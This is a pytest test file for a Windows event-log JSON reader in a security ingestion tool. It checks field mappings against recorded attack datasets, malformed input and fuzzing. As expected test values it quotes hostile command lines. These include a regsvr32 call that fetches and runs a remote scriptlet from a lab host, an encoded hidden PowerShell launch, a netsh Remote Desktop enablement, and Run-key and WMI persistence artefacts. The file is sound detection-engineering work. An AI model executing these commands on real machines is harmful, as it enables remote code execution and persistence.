"""Windows event JSON exports (NXLog/Mordor, Winlogbeat 6 and 7+, EVTX-style, Log Analytics):
real OTRF Security-Datasets files, the Sigma regression JSON/EVTX pairs, hand-written variants,
bad input and fuzz."""

from __future__ import annotations

import codecs
import json
import tarfile
import zipfile
from datetime import UTC, datetime
from pathlib import Path

import duckdb
import pytest
from hypothesis import HealthCheck, assume, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st

from phagocyte.config import load_settings
from phagocyte.ingest.reader import get_reader
from phagocyte.ingest.readers.winevent_json import MAPPING, _multiline
from tests.conftest import FIXTURES, assert_event, evaldata, ingest_bytes, rows, run_ingest

FIX = FIXTURES / "winevent_json"
NAME = "winevent_json"
PROVENANCE = {"event.id", "event.ingested", "log.file.path"}


def _ts(*a: int) -> datetime:
    return datetime(*a, tzinfo=UTC)


def _events(store, path: Path | str | None = None) -> dict[int, dict]:
    where = f"where \"log.file.path\" = '{path}'" if path is not None else ""
    return {r["log.file.line"]: r for r in rows(store, f"select * from events {where}")}


def _populated(ev: dict) -> set[str]:
    return {k for k, v in ev.items() if v not in (None, [], "")} - PROVENANCE


def _json_lines(data: bytes) -> int:
    return sum(1 for ln in data.split(b"\n") if ln.strip())


# --- real data: OTRF Security-Datasets (Mordor) -------------------------------------------------

_ZIPS = {  # one of each export shape found in the set
    "nxlog": "atomic/windows/lateral_movement/host/covenant_sharpsc_query_dcerpc_smb_svcctl.zip",
    "nxlog_ps": "atomic/windows/defense_evasion/host/empire_launcher_sct_regsvr32.zip",
    "timecreated": "atomic/windows/discovery/host/cmd_discover_iexplorer_version_registry.zip",
    "la_flat": "compound/GoldenSAMLADFSMailAccess/WindowsEvents.Zip",
    "la_xml": "compound/Log4Shell/securityauditing_log4shell_cve2021_44228_java_serialized_object.zip",
    "la_json": "compound/Log4Shell/sysmon_log4shell_cve2021_44228_java_serialized_object.zip",
}


@pytest.fixture(scope="module")
def mordor(tmp_path_factory):
    root = evaldata("otrf_security_datasets") / "datasets"
    zips = {k: root / v for k, v in _ZIPS.items()}
    report, store = run_ingest(list(zips.values()), load_settings(tmp_path_factory.mktemp("m") / "home"))
    members = {}
    for key, z in zips.items():
        with zipfile.ZipFile(z) as zf:
            (name,) = [n for n in zf.namelist() if n.endswith(".json")]
            members[key] = (f"{z}!{name}", _json_lines(zf.read(name)))
    return report, store, members


@pytest.mark.evaldata
def test_mordor_counts_equal_the_lines_of_each_zip(mordor) -> None:
    report, store, members = mordor
    assert report.quarantined == 0, report.to_dict()["problems"]
    assert report.by_reader() == {NAME: sum(n for _, n in members.values())}
    got = {r["p"]: r["n"] for r in rows(store, 'select "log.file.path" p, count(*) n from events group by 1')}
    assert got == {p: n for p, n in members.values()}
    ids = rows(
        store,
        'select count(*) n, count(distinct "event.id") d, count("@timestamp") t, '
        'count("winlog.event_id") e, count("host.name") h from events',
    )[0]
    assert ids["n"] == ids["d"] == ids["t"] == ids["e"] == ids["h"]


@pytest.mark.evaldata
def test_mordor_nxlog_sysmon_process_creation(mordor) -> None:
    _, store, members = mordor
    path = members["nxlog"][0]
    ev = _events(store, path)[184]
    assert_event(
        ev,
        {
            # EventTime 01:21:18 local; @timestamp - EventReceivedTime gives the collector's UTC-4.
            "@timestamp": _ts(2020, 8, 6, 5, 21, 18),
            "event.kind": "event",
            "event.code": "1",
            "event.category": ["process"],
            "event.type": ["start"],
            "event.action": "process-created",
            "event.dataset": "windows.sysmon",
            "event.module": "windows",
            "event.provider": "Microsoft-Windows-Sysmon",
            "host.name": "MORDORDC.theshire.local",
            "user.name": "SYSTEM",
            "user.domain": "NT AUTHORITY",
            "process.executable": "C:\\Windows\\System32\\dsregcmd.exe",
            "process.name": "dsregcmd.exe",
            "process.command_line": "C:\\windows\\System32\\dsregcmd.exe $(Arg0) $(Arg1) $(Arg2)",
            "process.pid": 5764,
            "process.entity_id": "{9f85ce58-934e-5f2b-f003-000000000400}",
            "process.parent.executable": "C:\\Windows\\System32\\svchost.exe",
            "process.parent.pid": 1976,
            "process.parent.command_line": "C:\\windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
            "process.hash.sha1": "5215a711bf730ba57315055e6d79da05d3d6c3db",
            "process.hash.md5": "a3ec5e3e8f80f75cc97f74ba14c60674",
            "winlog.channel": "Microsoft-Windows-Sysmon/Operational",
            "winlog.event_id": 1,
            "winlog.record_id": 250708,
            "winlog.process.pid": 3888,
            "winlog.keywords": "0x8000000000000000",
            "winlog.user.identifier": "S-1-5-18",
            "tags": ["mordorDataset"],
            "log.file.line": 184,
        },
    )
    with zipfile.ZipFile(path.split("!")[0]) as zf:
        line = zf.read(path.split("!")[1]).decode().split("\n")[183]
    assert ev["event.original"] == line.rstrip("\r")
    data = json.loads(ev["winlog.event_data"])
    assert data["IntegrityLevel"] == "System" and data["LogonId"] == "0x3e7"
    # The NXLog envelope is not EventData.
    assert not {"EventTime", "Hostname", "SourceModuleType", "AccountName", "port", "tags", "Message"} & set(
        data
    )


@pytest.mark.evaldata
def test_mordor_nxlog_security_logon_and_process(mordor) -> None:
    _, store, members = mordor
    got = _events(store, members["nxlog"][0])
    assert_event(
        got[72],
        {
            "@timestamp": _ts(2020, 8, 6, 5, 20, 45),
            "winlog.event_id": 4624,
            "event.code": "4624",
            "event.category": ["authentication"],
            "event.action": "logged-in",
            "event.outcome": "success",
            "event.dataset": "windows.security",
            "host.name": "WORKSTATION6.theshire.local",
            "user.name": "pgustavo",
            "user.domain": "THESHIRE.LOCAL",
            "user.id": "S-1-5-21-1363495622-3806888128-621328882-1104",
            "source.ip": "172.18.39.5",
            "source.port": 54362,
            "winlog.record_id": 85663,
            "winlog.keywords": "0x8020000000000000",
        },
    )
    assert_event(
        got[256],
        {
            "winlog.event_id": 4688,
            "event.type": ["start"],
            "process.executable": "C:\\Windows\\System32\\dsregcmd.exe",
            "process.command_line": "C:\\windows\\System32\\dsregcmd.exe $(Arg0) $(Arg1) $(Arg2)",
            "process.pid": 0x1684,
            "process.parent.pid": 0x7B8,
            "process.parent.executable": "C:\\Windows\\System32\\svchost.exe",
            "source.user.name": "MORDORDC$",
        },
    )


@pytest.mark.evaldata
def test_mordor_powershell_script_block_kept(mordor) -> None:
    _, store, members = mordor
    ev = _events(store, members["nxlog_ps"][0])[357]
    assert_event(
        ev,
        {
            "@timestamp": _ts(2020, 7, 22, 3, 27, 52),
            "winlog.event_id": 4104,
            "event.action": "powershell-script-block",
            "event.dataset": "windows.powershell_operational",
            "host.name": "WORKSTATION5.mordor.local",
            "winlog.record_id": 3089,
        },
    )
    data = json.loads(ev["winlog.event_data"])
    assert (
        data["ScriptBlockText"]
        == ".\\regsvr32.exe /s /n /u /i:http://10.10.10.5:8444/launcher.sct scrobj.dll"
    )
    assert data["ScriptBlockId"] == "285fc71a-1d15-482e-8122-177248f5d0ab" and data["MessageNumber"] == "1"


@pytest.mark.evaldata
def test_mordor_timecreated_export(mordor) -> None:
    _, store, members = mordor
    got = _events(store, members["timecreated"][0])
    cmd = 'reg  query "HKEY_LOCAL_MACHINE\\Software\\Microsoft\\Internet Explorer" /v svcVersion'
    assert_event(
        got[31],
        {
            "@timestamp": datetime(2020, 10, 21, 11, 28, 11, 221000, tzinfo=UTC),  # as exported (see docs)
            "winlog.event_id": 1,
            "host.name": "WORKSTATION5",
            "process.executable": "C:\\Windows\\System32\\reg.exe",
            "process.command_line": cmd,
            "process.parent.executable": "C:\\Windows\\System32\\cmd.exe",
            "user.name": "wardog",
            "user.domain": "WORKSTATION5",
            "winlog.level": 4,
            "process.hash.sha256": "4ed2a27860fa154415f65452ff1f94bd6af762982e2f3470030c504dc3c8a354",
        },
    )
    assert_event(
        got[2],
        {
            "winlog.event_id": 4688,
            "process.command_line": cmd,
            "process.pid": 0x898,
            "event.outcome": "success",
            "winlog.level": 0,
        },
    )


@pytest.mark.evaldata
def test_mordor_log_analytics_rows(mordor) -> None:
    _, store, members = mordor
    assert_event(
        _events(store, members["la_flat"][0])[3],
        {
            "@timestamp": datetime(2021, 8, 2, 13, 6, 38, 330000, tzinfo=UTC),
            "winlog.event_id": 4624,
            "host.name": "DC01.simulandlabs.com",
            "user.name": "wardog",
            "user.domain": "SIMULANDLABS.COM",
            "source.ip": "192.168.2.5",
            "source.port": 53085,
            "event.provider": "Microsoft-Windows-Security-Auditing",
            "winlog.level": None,  # the SecurityEvent table's own Level ("8") is not a Windows level
        },
    )
    ev = _events(store, members["la_xml"][0])[1]  # EventData as XML text
    assert_event(
        ev,
        {
            "winlog.event_id": 5156,
            "source.ip": "192.168.3.5",
            "source.port": 50452,
            "destination.ip": "192.168.2.5",
            "destination.port": 8080,
            "network.transport": "tcp",
            "process.name": "tomcat9.exe",
        },
    )
    assert json.loads(ev["winlog.event_data"])["FilterRTID"] == "68996"
    ev = _events(store, members["la_json"][0])[1]  # EventData as JSON text
    assert_event(
        ev,
        {
            "winlog.event_id": 3,
            "event.dataset": "windows.sysmon",
            "winlog.level": 4,
            "destination.port": 8080,
            "user.name": "LOCAL SERVICE",
            "host.name": "WORKSTATION5",
        },
    )


@pytest.mark.evaldata
def test_mordor_winlogbeat6_archive(settings, tmp_path) -> None:
    # The 2019 sets are Winlogbeat 6 JSON lines in .tar.gz files with a stray byte after the gzip
    # stream (the archive layer rejects them): take the member out with tarfile.
    tgz = (
        evaldata("otrf_security_datasets")
        / "datasets/atomic/windows/defense_evasion/host/empire_enable_rdp.tar.gz"
    )
    with tarfile.open(tgz) as tf:
        (member,) = tf.getmembers()
        data = tf.extractfile(member).read()
    f = tmp_path / "empire_enable_rdp.json"
    f.write_bytes(data)
    report, store = run_ingest([f], settings)
    assert report.quarantined == 0 and report.by_reader() == {NAME: _json_lines(data)} == {NAME: 2668}
    got = _events(store)
    assert_event(
        got[297],
        {
            "@timestamp": datetime(2019, 5, 18, 20, 37, 10, 711000, tzinfo=UTC),
            "winlog.event_id": 1,
            "host.name": "HR001.shire.com",
            "user.name": "nmartha",
            "user.domain": "SHIRE",
            "process.executable": "C:\\Windows\\System32\\netsh.exe",
            "process.command_line": (
                '"C:\\Windows\\system32\\netsh.exe" firewall set service type = remotedesktop mod = enable'
            ),
            "process.parent.executable": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
            "winlog.record_id": 2234852,
            "winlog.task": "Process Create (rule: ProcessCreate)",
            "winlog.process.pid": 2440,
            "winlog.user.identifier": "S-1-5-18",
        },
    )
    assert_event(
        got[154],
        {
            "winlog.event_id": 4624,
            "event.outcome": "success",
            "winlog.keywords": "0x8020000000000000",
            "user.name": "HFDC01$",
            "source.ip": "fe80::e086:822b:9735:45c8",
            "source.port": 57642,
            "host.name": "HFDC01.shire.com",
        },
    )


# --- real data: the same events as EVTX and as evtx-rs JSON (Sigma regression data) ------------


def _norm(v):
    """The Sigma JSON files were trimmed by hand: trailing spaces dropped, one path's case changed."""
    if isinstance(v, str):
        return v.strip().casefold()
    if isinstance(v, dict):
        return {k: _norm(x) for k, x in v.items()}
    return v


@pytest.mark.evaldata
def test_sigma_regression_json_maps_like_its_evtx(tmp_path) -> None:
    root = evaldata("sigma") / "regression_data"
    jsons = sorted(root.rglob("*.json"))
    evtxs = [j.with_suffix(".evtx") for j in jsons]
    assert len(jsons) > 100 and all(e.exists() for e in evtxs)
    rj, sj = run_ingest(jsons, load_settings(tmp_path / "j"))
    _, se = run_ingest(evtxs, load_settings(tmp_path / "e"))
    # Some files hold several pretty-printed records one after another.
    assert rj.quarantined == 0 and rj.by_reader() == {NAME: rj.events} and rj.events > len(jsons)

    def key(ev: dict) -> tuple:
        return ev["log.file.path"].rsplit(".", 1)[0], ev["winlog.record_id"]

    from_json = {key(e): e for e in rows(sj, "select * from events")}
    from_evtx = {key(e): e for e in rows(se, "select * from events")}
    assert set(from_json) <= set(from_evtx) and len(from_json) == rj.events
    skip = PROVENANCE | {"event.original", "log.file.line", "log.offset"}
    diffs = {}
    for k, a in from_json.items():
        b = from_evtx[k]
        for field in a.keys() - skip:
            x, y = a[field], b[field]
            if field == "winlog.event_data" and x and y:
                x, y = json.loads(x), json.loads(y)
            if _norm(x) != _norm(y):
                diffs[(k, field)] = (a[field], b[field])
    assert not diffs, list(diffs.items())[:5]


# --- hand-written variants ----------------------------------------------------------------------


def _fixture(settings, name: str, n: int) -> dict[int, dict]:
    f = FIX / name
    report, store = run_ingest([f], settings)
    assert report.quarantined == 0 and report.by_reader() == {NAME: n}, report.to_dict()
    return _events(store, f)


def test_sniff_scores() -> None:
    r = get_reader(NAME)
    for f in FIX.glob("*.json*"):
        assert r.sniff(f.read_bytes()[:65536], str(f)) >= 60, f
    assert r.sniff(b'{"EventID": 4624, "Channel": "Security", "Hostname": "h"}', "x") == 85
    assert r.sniff(codecs.BOM_UTF16_LE + '{"winlog": {"channel": "Security"}}'.encode("utf-16-le"), "x") == 90
    for other in (
        b'{"event_type": "alert", "src_ip": "1.2.3.4"}',
        b"ElfFile\x00",
        b"",
        b"EventID Channel",
        b'{"ts": 1, "uid": "C1", "id.orig_h": "1.2.3.4"}',
    ):
        assert r.sniff(other, "x") == 0


def test_nxlog_flat_records(settings) -> None:
    got = _fixture(settings, "nxlog_mordor.jsonl", 6)
    assert_event(
        got[1],
        {
            "@timestamp": _ts(2021, 3, 2, 10, 15, 30),
            "host.name": "WKS01.lab.example",
            "process.command_line": "cmd.exe /c whoami /all",
            "process.executable": "C:\\Windows\\System32\\cmd.exe",
            "process.parent.executable": "C:\\Windows\\explorer.exe",
            "user.name": "alice",
            "user.domain": "LAB",
            "winlog.keywords": "0x8000000000000000",
            "winlog.opcode": "0",
            "winlog.process.pid": 2916,
            "winlog.process.thread.id": 3740,
            "winlog.user.identifier": "S-1-5-18",
            "message": "Process Create:\r\nRuleName: -",
        },
    )
    assert_event(
        got[2],
        {
            "winlog.keywords": "0x8020000000000000",
            "event.outcome": "success",
            "source.ip": "10.0.0.15",
            "winlog.activity_id": "{AAAAAAAA-BBBB-CCCC-DDDD-EEEEEEEEEEEE}",
        },
    )
    ps = json.loads(got[3]["winlog.event_data"])
    assert ps == {
        "MessageNumber": "1",
        "MessageTotal": "1",
        "ScriptBlockId": "0a1b2c3d-0000-0000-0000-000000000001",
        "ScriptBlockText": "Get-Process | Where-Object { $_.CPU -gt 100 }",
        "Path": "",
    }
    assert (
        got[3]["winlog.keywords"] == "0x0"
        and got[3]["user.id"] == "S-1-5-21-1111111111-2222222222-3333333333-1104"
    )
    # Sysmon's own EventType stays EventData; NXLog's (INFO, renamed EventTypeOrignal) does not.
    assert json.loads(got[4]["winlog.event_data"])["EventType"] == "SetValue"
    assert "EventType" not in json.loads(got[1]["winlog.event_data"])
    assert_event(
        got[4],
        {
            "registry.path": "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
            "user.name": None,
        },
    )  # NXLog's AccountName is the logging account, not EventData
    # Old NXLog: a numeric ProcessID is the Execution pid; a text ProcessID (5156) is EventData.
    assert (
        got[5]["winlog.process.pid"] is None
        and json.loads(got[5]["winlog.event_data"])["ProcessID"] == "1992"
    )
    assert got[6]["winlog.process.pid"] == 2440 and "ProcessID" not in json.loads(got[6]["winlog.event_data"])
    assert_event(
        got[5],
        {"destination.port": 53, "network.transport": "udp", "@timestamp": _ts(2019, 5, 18, 20, 19, 27)},
    )


def test_flat_timecreated_and_log_analytics(settings) -> None:
    got = _fixture(settings, "flat_other.jsonl", 3)
    assert_event(
        got[1],
        {
            "@timestamp": datetime(2022, 8, 3, 4, 18, 21, 880000, tzinfo=UTC),
            "winlog.level": 4,
            "destination.domain": "dc01.lab.example",
            "user.name": "NETWORK SERVICE",
        },
    )
    assert "EventType" not in json.loads(got[1]["winlog.event_data"])  # a severity name is never EventData
    assert_event(
        got[2],
        {
            "dns.question.name": "updates.example.org",
            "event.provider": "Microsoft-Windows-Sysmon",
            "host.name": "WKS05",
            "winlog.level": 4,
            "event.action": "dns-query",
        },
    )
    assert set(json.loads(got[2]["winlog.event_data"])) == {
        "RuleName",
        "UtcTime",
        "ProcessGuid",
        "ProcessId",
        "QueryName",
        "QueryStatus",
        "QueryResults",
        "Image",
    }
    ed = json.loads(got[3]["winlog.event_data"])
    assert ed["Application"] == "\\device\\harddiskvolume2\\app & co\\app.exe" and ed["RemoteUserID"] == ""
    assert not {"TenantId", "Activity", "EventData", "Type", "_ResourceId"} & set(ed)
    assert_event(
        got[3],
        {
            "event.provider": "Microsoft-Windows-Security-Auditing",
            "destination.ip": "192.0.2.6",
            "winlog.level": None,
        },
    )


def test_winlogbeat_array_and_v6_lines(settings) -> None:
    got = _fixture(settings, "winlogbeat.json", 3)
    assert_event(
        got[2],
        {
            "@timestamp": datetime(2023, 1, 10, 12, 0, 0, 123000, tzinfo=UTC),
            "host.name": "WKS01.lab.example",
            "process.command_line": "powershell.exe -nop -w hidden -enc SQBFAFgA",
            "user.name": "bob",
            "winlog.record_id": 123456,
            "winlog.event_id": 1,
            "message": "Process Create:\nRuleName: -",
            "winlog.provider_guid": "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}",
            "log.offset": 4,
        },
    )
    assert_event(
        got[66],
        {
            "event.outcome": "failure",
            "winlog.keywords": "0x8010000000000000",
            "source.ip": "203.0.113.50",
            "user.name": "admin",
            "winlog.event_id": 4625,
        },
    )
    assert (
        json.loads(got[108]["winlog.event_data"])["CONSUMER"] == 'CommandLineEventConsumer="Evil"'
    )  # user_data
    got = _fixture(settings, "winlogbeat6.jsonl", 2)
    assert_event(
        got[1],
        {
            "host.name": "HR001.lab.example",
            "winlog.version": 5,
            "winlog.opcode": "Info",
            "winlog.task": "Process Create (rule: ProcessCreate)",
            "process.parent.pid": 532,
            "message": "Process Create:\nRuleName: ",
        },
    )
    assert_event(
        got[2], {"winlog.keywords": "0x8020000000000000", "event.outcome": "success", "source.ip": "::1"}
    )


def test_evtx_renderings(settings) -> None:
    lines = _fixture(settings, "evtx_style.jsonl", 2)
    pretty = _fixture(settings, "evtx_dump.json", 2)  # "Record N" + pretty-printed object
    assert sorted(pretty) == [2, 69]
    for a, b in ((lines[1], pretty[2]), (lines[2], pretty[69])):
        assert {
            k: v
            for k, v in a.items()
            if k not in PROVENANCE | {"event.original", "log.file.line", "log.offset"}
        } == {
            k: v
            for k, v in b.items()
            if k not in PROVENANCE | {"event.original", "log.file.line", "log.offset"}
        }
    assert_event(
        lines[2],
        {
            "winlog.event_id": 4688,
            "process.pid": 0x1A0C,
            "process.executable": "C:\\Windows\\System32\\whoami.exe",
        },
    )
    xd = _fixture(settings, "xmltodict.json", 1)[1]
    assert_event(
        xd,
        {
            "winlog.event_id": 11,
            "file.path": "C:\\Users\\carol\\AppData\\Roaming\\drop.ps1",
            "winlog.process.thread.id": 4001,
            "@timestamp": _ts(2024, 4, 1, 9, 31),
            "winlog.provider_guid": "{5770385F-C22A-43E0-BF4C-06F5698FFBD9}",
        },
    )
    assert json.loads(xd["winlog.event_data"])["User"] is None


@pytest.mark.evaldata
def test_same_ecs_fields_as_evtx_for_a_sysmon_process_creation(settings, tmp_path) -> None:
    evtx_file = (
        evaldata("sigma") / "regression_data/rules-emerging-threats/2025/Malware/Grixba/"
        "proc_creation_win_malware_grixba_recon/af688c76-4ce4-4309-bfdd-e896f01acf27.evtx"
    )
    _, store = run_ingest([evtx_file], settings)
    (ev,) = rows(store, 'select * from events where "winlog.event_id" = 1')
    want = _populated(ev)
    json_only = {"event.original", "log.file.line", "log.offset", "message", "tags"}
    # NXLog and Winlogbeat do not export the numeric Level; Winlogbeat keeps keyword names only.
    cases = {
        "evtx_style.jsonl": (1, set()),
        "evtx_dump.json": (2, set()),
        "nxlog_mordor.jsonl": (1, {"winlog.level"}),
        "winlogbeat.json": (2, {"winlog.level", "winlog.keywords"}),
        "winlogbeat6.jsonl": (1, {"winlog.level", "winlog.keywords"}),
    }
    for i, (name, (line, not_exported)) in enumerate(cases.items()):
        _, s = run_ingest([FIX / name], load_settings(tmp_path / str(i)))
        got = _populated(_events(s)[line])
        assert got - json_only == want - not_exported, (name, got ^ want)


# --- bad input ----------------------------------------------------------------------------------


def _q(store) -> dict[int, str]:
    return {
        r["line"]: r["reason"]
        for r in rows(store, "select line, reason from quarantine where line is not null")
    }


def test_bad_lines_are_quarantined_and_the_rest_kept(settings, tmp_path) -> None:
    good = (FIX / "nxlog_mordor.jsonl").read_bytes().split(b"\n")
    f = tmp_path / "mixed.json"
    f.write_bytes(
        b"\n".join(
            [
                good[0],
                good[1][:150],  # 2: truncated record
                b"this is not json",  # 3
                b"[1, 2, 3]",  # 4: JSON, not an object
                # 5: valid JSON in Latin-1
                b'{"EventID":4624,"Channel":"Security","Hostname":"DC01","TargetUserName":"J\xe9r\xf4me"}',
                b"",
                b"\x00\x01\x02\xff\xfe binary",  # 7
                good[2],  # 8
            ]
        )
        + b"\n"
    )
    report, store = run_ingest([f], settings)
    assert report.events == 3 and report.quarantined == 4
    q = _q(store)
    assert sorted(q) == [2, 3, 4, 7]
    assert all(r.startswith("not JSON") for k, r in q.items() if k != 4) and "not an object" in q[4]
    got = _events(store)
    assert sorted(got) == [1, 5, 8]
    assert got[5]["user.name"] == "Jérôme"
    assert report.results[0].warnings == {"lines not UTF-8, decoded as Latin-1": 2}  # lines 5 and 7


def test_utf16_empty_and_binary_sources(settings, tmp_path) -> None:
    lines = (FIX / "nxlog_mordor.jsonl").read_text(encoding="utf-8").splitlines()[:2]
    u16 = tmp_path / "u16.json"
    u16.write_bytes(codecs.BOM_UTF16_LE + "\r\n".join(lines).encode("utf-16-le"))
    arr = tmp_path / "u16_array.json"  # PowerShell's ConvertTo-Json | Out-File writes UTF-16
    arr.write_bytes(codecs.BOM_UTF16_LE + (FIX / "winlogbeat.json").read_text().encode("utf-16-le"))
    empty = tmp_path / "empty.json"
    empty.write_bytes(b"")
    report, store = run_ingest([u16, arr, empty], settings, format=NAME)
    by_path = {r.path: r for r in report.results}
    assert by_path[str(u16)].events == 2 and by_path[str(arr)].events == 3
    assert by_path[str(empty)].status == "ingested" and by_path[str(empty)].events == 0
    assert report.quarantined == 0
    assert {
        r["log.file.line"] for r in rows(store, f"select * from events where \"log.file.path\" = '{u16}'")
    } == {1, 2}
    blob = tmp_path / "blob.bin"
    blob.write_bytes(bytes(range(256)) * 20)
    report, _ = run_ingest([blob], load_settings(tmp_path / "h2"), format=NAME)
    assert report.events == 0 and report.quarantined == _json_lines(blob.read_bytes())


def test_pretty_printed_garbage_and_truncation(settings, tmp_path) -> None:
    rec = json.dumps(json.loads((FIX / "evtx_style.jsonl").read_text().splitlines()[0]), indent=2)
    f = tmp_path / "dump.json"
    f.write_text(f"Record 1\n{rec}\nsome junk here\nRecord 2\n{rec}\n{rec[:200]}")
    report, store = run_ingest([f], settings)
    n = rec.count("\n") + 1
    assert report.events == 2 and report.quarantined == 2
    assert sorted(_events(store)) == [2, n + 4]
    q = _q(store)
    assert q[n + 2] == "not a JSON object" and q[2 * n + 4].startswith("not JSON")


def test_out_of_range_hex_id_does_not_break_the_batch(settings, tmp_path) -> None:
    f = tmp_path / "hex.json"
    f.write_text('{"EventID":4688,"Channel":"Security","Hostname":"h","NewProcessId":"0xffffffffffffffff"}\n')
    report, _ = run_ingest([f], settings)
    assert report.events == 1


# --- fuzz ---------------------------------------------------------------------------------------

_BASES = [
    json.loads(ln)
    for name in ("nxlog_mordor.jsonl", "flat_other.jsonl", "winlogbeat6.jsonl", "evtx_style.jsonl")
    for ln in (FIX / name).read_text().splitlines()
] + json.loads((FIX / "winlogbeat.json").read_text())
_scalars = (
    st.none()
    | st.booleans()
    | st.integers(min_value=-(2**70), max_value=2**70)
    | st.floats()
    | st.text(max_size=12)
    | st.sampled_from(
        [
            "2024-01-01T00:00:00Z",
            "1e308",
            "-1",
            "0x7f",
            "inf",
            "9999-12-31 23:59:59",
            "0001-01-01 00:00:00",
            '<Data Name="A">x</Data>',
            '{"a":',
            "{}",
            "[]",
            "Audit Success",
            "INFO",
        ]
    )
)
_values = st.recursive(
    _scalars,
    lambda kids: st.lists(kids, max_size=3) | st.dictionaries(st.text(max_size=6), kids, max_size=3),
    max_leaves=6,
)
_PATHS = [
    "EventID",
    "Channel",
    "Keywords",
    "ProcessID",
    "ThreadID",
    "EventTime",
    "EventReceivedTime",
    "@timestamp",
    "EventData",
    "TimeGenerated",
    "TimeCreated",
    "Provider",
    "tags",
    "EventType",
    "TenantId",
    "host",
    "winlog",
    "winlog.event_data",
    "winlog.keywords",
    "winlog.event_id",
    "winlog.user_data",
    "log_name",
    "event_id",
    "event_data",
    "keywords",
    "version",
    "message",
    "Event",
    "Event.System",
    "Event.EventData",
    "Event.System.EventID",
    "Event.System.TimeCreated",
    "Event.EventData.Data",
    "Event.UserData",
    "Image",
]


def _mutate(rec: dict, path: str, value, delete: bool) -> dict:
    rec = json.loads(json.dumps(rec))
    *parents, last = path.split(".")
    node = rec
    for p in parents:
        if not isinstance(node.get(p), dict):
            node[p] = {}
        node = node[p]
    if delete:
        node.pop(last, None)
    else:
        node[last] = value
    return rec


def _ingest_bytes(data: bytes):
    return ingest_bytes(data, NAME, "in.json")


# Each example runs the whole pipeline (~0.1 s): few examples, several records each.
_FUZZ = hsettings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@_FUZZ
@given(
    st.lists(
        st.tuples(
            st.sampled_from(range(len(_BASES))),
            st.sampled_from(_PATHS),
            _values,
            st.booleans(),
            st.integers(0, 8),
        ),
        min_size=1,
        max_size=10,
    ),
    st.data(),
)
def test_fuzz_mutated_records(edits, data) -> None:
    lines = []
    for base, path, value, delete, cut in edits:
        line = json.dumps(_mutate(_BASES[base], path, value, delete), allow_nan=True)
        if cut == 0:
            line = line[: data.draw(st.integers(0, len(line)))]
        lines.append(line)
    raw = "\n".join(lines).encode()
    assume(not _multiline(raw[:65536]))
    report, stored = _ingest_bytes(raw)
    assert stored == report.events
    assert report.events + report.quarantined == _json_lines(raw)


@_FUZZ
@given(st.binary(max_size=1500))
def test_fuzz_bytes(data: bytes) -> None:
    report, stored = _ingest_bytes(data)
    assert stored == report.events
    (res,) = report.results
    if res.status == "failed":  # archive magic bytes: a recorded source-level failure
        return
    if (
        not data.startswith((codecs.BOM_UTF16_LE, codecs.BOM_UTF16_BE))
        and not data.lstrip().startswith(b"[")
        and not _multiline(data)
    ):
        assert report.events + report.quarantined == _json_lines(data.removeprefix(codecs.BOM_UTF8))


_finite = st.recursive(
    _scalars.filter(lambda v: not (isinstance(v, float) and (v != v or abs(v) == float("inf")))),
    lambda kids: st.lists(kids, max_size=3) | st.dictionaries(st.text(max_size=6), kids, max_size=3),
    max_leaves=6,
)


@hsettings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.tuples(st.sampled_from(range(len(_BASES))), st.sampled_from(_PATHS), _finite, st.booleans()),
        min_size=1,
        max_size=50,
    )
)
def test_fuzz_mapping_never_raises(edits) -> None:
    """The SQL mapping alone (planning it costs ~0.1 s, so many records per example): a hostile
    value gives NULLs, never an error for the batch."""
    raws = [json.dumps(_mutate(_BASES[b], p, v, d)) for b, p, v, d in edits]
    table, bad = MAPPING.apply(_CON, raws, [None] * len(raws), [None] * len(raws))
    assert table.num_rows == len(raws) and not bad


_CON = duckdb.connect(":memory:")
_CON.execute("SET TimeZone='UTC'")
